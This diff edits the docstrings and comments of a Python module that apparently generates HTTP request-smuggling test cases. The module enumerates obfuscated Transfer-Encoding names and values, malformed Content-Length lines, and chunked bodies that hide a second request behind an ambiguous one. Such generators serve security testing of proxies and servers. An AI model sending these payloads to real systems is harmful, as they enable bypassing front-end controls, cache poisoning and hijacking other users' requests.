@@ -1,5 +1,8 @@
-"""Some hundred ways to write Content-Length and Transfer-Encoding so that a proxy and the server
-behind it may read them differently, as attackers do."""
+"""Generate hundreds of ambiguous Content-Length and Transfer-Encoding fields.
+
+A proxy and the server behind it may read each of them differently; attackers use this (request
+smuggling).
+"""
 
 from collections.abc import Iterator
 from itertools import product
@@ -7,7 +10,7 @@ from itertools import product
 INNER = b"GET /inner HTTP/1.1\r\nHost: inner\r\n\r\n"
 BEHIND = b"GET /behind HTTP/1.1\r\nHost: behind\r\n\r\n"
 
-# Lines that say "chunked" to somebody. @ stands for the value.
+# Lines that some servers read as "chunked". @ stands for the value.
 CODING_NAMES = (
     b"Transfer-Encoding: @",
     b"transfer-encoding:@",
@@ -48,7 +51,7 @@ CODING_VALUES = (
     b"chun ked",
     b"xchunked",
 )
-# Lines that give the length, which stands for @.
+# Lines that give the length, for which @ stands.
 LENGTHS = (
     b"",
     b"Content-Length: @\r\n",
@@ -63,7 +66,7 @@ LENGTHS = (
     b"Content-Length: @\x00\r\n",
     b"Content_Length: @\r\n",
 )
-# Bodies; %x is the size of what is hidden, %s itself.
+# Bodies; %x is the size of the hidden request, %s the hidden request itself.
 BODIES = (
     b"%x\r\n%s\r\n0\r\n\r\n",
     b"0\r\n\r\n%.0s%s",
@@ -85,7 +88,7 @@ def message(coding: bytes, length: bytes, body: bytes, version: bytes = b"1.1") 
 
 
 def streams() -> Iterator[bytes]:
-    """A request that hides another in its body, in every way, and a plain one behind it."""
+    """Yield requests that hide another in their body, in every way, each before a plain one."""
     for name, value in product(CODING_NAMES, CODING_VALUES):
         coding = name.replace(b"@", value) + b"\r\n"
         for length, body in product(LENGTHS[:2], BODIES[:2]):
